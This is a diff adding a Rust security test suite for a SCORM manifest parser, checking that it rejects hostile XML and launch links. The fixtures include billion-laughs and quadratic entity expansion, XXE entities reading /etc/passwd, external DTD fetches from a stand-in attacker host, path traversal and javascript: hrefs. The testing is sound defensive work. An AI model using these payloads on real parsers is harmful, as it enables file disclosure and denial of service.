@@ -1,1 +1,312 @@
-//! security
+//! The SCORM manifest cases of the security catalogue (SCO-24..SCO-41), each with a fixture of our own.
+
+use std::time::{Duration, Instant};
+
+use learnwire_scorm::{Limits, Options, check_manifest, parse_manifest};
+
+use crate::support::{assert_error, baseline, lenient, scorm12, with_href};
+
+const ROOT: &str =
+    r#"<manifest identifier="M" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2">"#;
+
+fn timed(bytes: &[u8], code: &str) {
+    let start = Instant::now();
+    let check = lenient(bytes);
+    assert_error(&check, code);
+    assert!(parse_manifest(bytes, &Options::default()).is_err());
+    assert!(
+        start.elapsed() < Duration::from_secs(10),
+        "{code} took {:?}",
+        start.elapsed()
+    );
+}
+
+#[test]
+fn sco01_baseline_is_valid() {
+    let check = lenient(baseline().as_bytes());
+    assert!(check.is_valid(), "{:#?}", check.report);
+    assert_eq!(check.launches.len(), 1);
+}
+
+#[test]
+fn sco24_to_28_dtds_and_entities_are_refused() {
+    let billion = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol9 "&lol2;&lol2;">]><manifest><title>&lol9;</title></manifest>"#;
+    timed(billion.as_bytes(), "scorm.xml.doctype");
+    let big = "x".repeat(100_000);
+    let quadratic = format!(
+        "<!DOCTYPE m [<!ENTITY a \"{big}\">]><manifest><title>{}</title></manifest>",
+        "&a;".repeat(10_000)
+    );
+    timed(quadratic.as_bytes(), "scorm.xml.doctype");
+    for xxe in [
+        r#"<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><manifest>&xxe;</manifest>"#,
+        r#"<!DOCTYPE m [<!ENTITY xxe SYSTEM "../../../../../../etc/hostname">]><manifest>&xxe;</manifest>"#,
+        r#"<!DOCTYPE manifest SYSTEM "http://attacker.invalid/evil.dtd"><manifest/>"#,
+        r#"<!DOCTYPE m [<!ENTITY % ext SYSTEM "http://attacker.invalid/ext.dtd"> %ext;]><manifest/>"#,
+        r#"<!DOCTYPE m [<!ENTITY a "&b;"><!ENTITY b "&a;">]><manifest>&a;</manifest>"#,
+    ] {
+        timed(xxe.as_bytes(), "scorm.xml.doctype");
+    }
+    timed(
+        format!("{ROOT}<x>&undefined;</x></manifest>").as_bytes(),
+        "scorm.xml.unknown-entity",
+    );
+    timed(
+        format!(r#"{ROOT}<x a="&undefined;"/></manifest>"#).as_bytes(),
+        "scorm.xml.unknown-entity",
+    );
+}
+
+#[test]
+fn sco29_deep_nesting_hits_the_depth_limit() {
+    let depth = 100_000;
+    let mut xml = String::from(ROOT);
+    xml.push_str("<organizations><organization identifier=\"O\">");
+    for n in 0..depth {
+        xml.push_str(&format!("<item identifier=\"I{n}\">"));
+    }
+    timed(xml.as_bytes(), "scorm.limit.depth");
+}
+
+#[test]
+fn sco30_huge_attribute_values_are_bounded() {
+    let huge = format!(
+        r#"<manifest identifier="{}"/>"#,
+        "A".repeat(50 * 1024 * 1024)
+    );
+    timed(huge.as_bytes(), "scorm.limit.input-size");
+    let long = format!(r#"<manifest identifier="{}"/>"#, "A".repeat(100 * 1024));
+    timed(long.as_bytes(), "scorm.limit.attribute-length");
+}
+
+#[test]
+fn sco31_and_32_too_many_attributes_or_namespaces() {
+    let attrs: String = (0..50_000).map(|n| format!(" a{n}=\"v\"")).collect();
+    timed(
+        format!("<manifest{attrs}/>").as_bytes(),
+        "scorm.limit.attributes",
+    );
+    let namespaces: String = (0..10_000)
+        .map(|n| format!(" xmlns:p{n}=\"urn:x:{n}\""))
+        .collect();
+    timed(
+        format!("<manifest{namespaces}/>").as_bytes(),
+        "scorm.limit.attributes",
+    );
+}
+
+#[test]
+fn sco33_duplicate_attribute() {
+    let xml = scorm12(
+        "",
+        r#"<resource identifier="RES-1" identifier="RES-2" type="webcontent" adlcp:scormtype="sco" href="a.html"/>"#,
+    );
+    timed(xml.as_bytes(), "scorm.xml.duplicate-attribute");
+}
+
+fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
+    let mut out = Vec::new();
+    if bom {
+        out.extend_from_slice(if little { &[0xFF, 0xFE] } else { &[0xFE, 0xFF] });
+    }
+    for unit in text.encode_utf16() {
+        out.extend_from_slice(&if little {
+            unit.to_le_bytes()
+        } else {
+            unit.to_be_bytes()
+        });
+    }
+    out
+}
+
+#[test]
+fn sco34_encodings() {
+    let text = baseline()
+        .replacen("UTF-8", "UTF-16", 1)
+        .replace("<title>Lesson</title>", "<title>Leçon</title>");
+    for (little, bom) in [(true, true), (false, true), (true, false)] {
+        let check = lenient(&utf16(&text, little, bom));
+        assert!(
+            check.is_valid(),
+            "utf16 little={little} bom={bom}: {:#?}",
+            check.report
+        );
+        let manifest = check.manifest.unwrap();
+        assert_eq!(manifest.organizations.list[0].items[0].title, "Leçon");
+    }
+    let mut utf32 = vec![0xFF, 0xFE, 0, 0];
+    for c in "<manifest/>".chars() {
+        utf32.extend_from_slice(&u32::from(c).to_le_bytes());
+    }
+    timed(&utf32, "scorm.xml.unsupported-encoding");
+    let mut bom_conflict = vec![0xEF, 0xBB, 0xBF];
+    bom_conflict.extend_from_slice(text.as_bytes());
+    timed(&bom_conflict, "scorm.xml.encoding-conflict");
+    let unknown = baseline().replacen("UTF-8", "x-learnwire-unknown", 1);
+    timed(unknown.as_bytes(), "scorm.xml.unsupported-encoding");
+    // Odd byte count after a UTF-16 BOM: refused, never a panic.
+    timed(&[0xFF, 0xFE, b'<', 0, b'm'], "scorm.xml.invalid-encoding");
+    // ISO-8859-1 and windows-1252 are decoded.
+    let latin1: Vec<u8> = baseline()
+        .replacen("UTF-8", "ISO-8859-1", 1)
+        .replace(
+            "<title>Lesson</title>",
+            "<title>Le\u{e7}on \u{20ac}</title>",
+        )
+        .chars()
+        .map(|c| match c {
+            '\u{20ac}' => 0x80,
+            c => u8::try_from(u32::from(c)).unwrap(),
+        })
+        .collect();
+    let check = lenient(&latin1);
+    assert!(check.is_valid(), "{:#?}", check.report);
+    assert_eq!(
+        check.manifest.unwrap().organizations.list[0].items[0].title,
+        "Leçon €"
+    );
+}
+
+#[test]
+fn sco35_invalid_utf8() {
+    for bad in [
+        &[0xC3, 0x28][..],
+        &[0xC0, 0xAF],
+        &[0xED, 0xA0, 0x80],
+        &[0xE2, 0x82],
+    ] {
+        let mut bytes = b"<manifest><title>".to_vec();
+        bytes.extend_from_slice(bad);
+        if bad.len() != 2 || bad[0] != 0xE2 {
+            bytes.extend_from_slice(b"</title></manifest>");
+        }
+        let check = lenient(&bytes);
+        assert_error(&check, "scorm.xml.invalid-encoding");
+        assert!(
+            check.report.issues()[0]
+                .location
+                .to_string()
+                .contains("line 1, column 18"),
+            "{:?}",
+            check.report
+        );
+    }
+}
+
+#[test]
+fn sco36_illegal_characters() {
+    timed(
+        format!("{ROOT}<x>&#0;</x></manifest>").as_bytes(),
+        "scorm.xml.invalid-character",
+    );
+    timed(
+        format!("{ROOT}<x>&#x1;</x></manifest>").as_bytes(),
+        "scorm.xml.invalid-character",
+    );
+    timed(
+        format!("{ROOT}<x>\u{1}</x></manifest>").as_bytes(),
+        "scorm.xml.invalid-character",
+    );
+    timed(
+        format!("{ROOT}<x a=\"&#1;\"/></manifest>").as_bytes(),
+        "scorm.xml.invalid-character",
+    );
+}
+
+#[test]
+fn sco37_malformed_structure() {
+    timed(
+        format!("{ROOT}<a></b></manifest>").as_bytes(),
+        "scorm.xml.malformed",
+    );
+    timed(
+        format!("{ROOT}</manifest><manifest/>").as_bytes(),
+        "scorm.xml.multiple-roots",
+    );
+    timed(
+        format!("{ROOT}<organizations>").as_bytes(),
+        "scorm.xml.unexpected-eof",
+    );
+    timed(b"", "scorm.xml.no-root");
+    timed(b"  hello  ", "scorm.xml.malformed");
+}
+
+#[test]
+fn sco38_and_39_launch_href_attacks() {
+    for (href, code) in [
+        ("../../../../etc/passwd", "scorm.href.escapes-root"),
+        (
+            "javascript:alert(document.domain)",
+            "scorm.href.forbidden-scheme",
+        ),
+        ("file:///etc/passwd", "scorm.href.forbidden-scheme"),
+        ("data:text/html,hi", "scorm.href.forbidden-scheme"),
+        ("vbscript:msgbox", "scorm.href.forbidden-scheme"),
+        ("content/%2e%2e/%2e%2e/x.html", "scorm.href.escapes-root"),
+        ("C:\\course\\index.html", "scorm.href.invalid"),
+    ] {
+        let check = lenient(with_href(href).as_bytes());
+        assert_error(&check, code);
+        assert!(check.launches.is_empty(), "{href} must not launch");
+    }
+    let xml_base = scorm12(
+        r#"<item identifier="ITEM-1" identifierref="RES-1"><title>L</title></item>"#,
+        r#"<resource identifier="RES-1" type="webcontent" adlcp:scormtype="sco" xml:base="file:///etc/" href="passwd"><file href="passwd"/></resource>"#,
+    );
+    let check = lenient(xml_base.as_bytes());
+    assert_error(&check, "scorm.href.forbidden-scheme");
+    assert!(check.launches.is_empty());
+}
+
+#[test]
+fn sco40_dangling_identifierref() {
+    let xml = scorm12(
+        r#"<item identifier="ITEM-1" identifierref="NOPE"><title>L</title></item>"#,
+        r#"<resource identifier="RES-1" type="webcontent" adlcp:scormtype="sco" href="a.html"><file href="a.html"/></resource>"#,
+    );
+    timed(xml.as_bytes(), "scorm.item.identifierref-unresolved");
+}
+
+#[test]
+fn sco41_duplicate_identifiers() {
+    let xml = scorm12(
+        r#"<item identifier="ITEM-1" identifierref="RES-1"><title>L</title></item>"#,
+        r#"<resource identifier="RES-1" type="webcontent" adlcp:scormtype="sco" href="a.html"><file href="a.html"/></resource>
+<resource identifier="RES-1" type="webcontent" adlcp:scormtype="asset" href="b.html"><file href="b.html"/></resource>"#,
+    );
+    let check = lenient(xml.as_bytes());
+    assert_error(&check, "scorm.id.duplicate");
+    let issue = check
+        .report
+        .errors()
+        .find(|i| i.code.as_str() == "scorm.id.duplicate")
+        .unwrap();
+    assert!(
+        issue
+            .location
+            .to_string()
+            .starts_with("imsmanifest.xml:/manifest/resources/resource[2] (line 12, column 1)"),
+        "{}",
+        issue.location
+    );
+}
+
+#[test]
+fn limits_are_configurable() {
+    let mut options = Options::default();
+    options.limits = Limits::default().with_max_depth(3);
+    let check = check_manifest(baseline().as_bytes(), &options);
+    assert!(check.report.has_code("scorm.limit.depth"));
+    options.limits = Limits::default().with_max_elements(5);
+    assert!(
+        check_manifest(baseline().as_bytes(), &options)
+            .report
+            .has_code("scorm.limit.elements")
+    );
+    options.limits = Limits::default().with_max_text_bytes(3);
+    assert!(
+        check_manifest(baseline().as_bytes(), &options)
+            .report
+            .has_code("scorm.limit.text-length")
+    );
+}
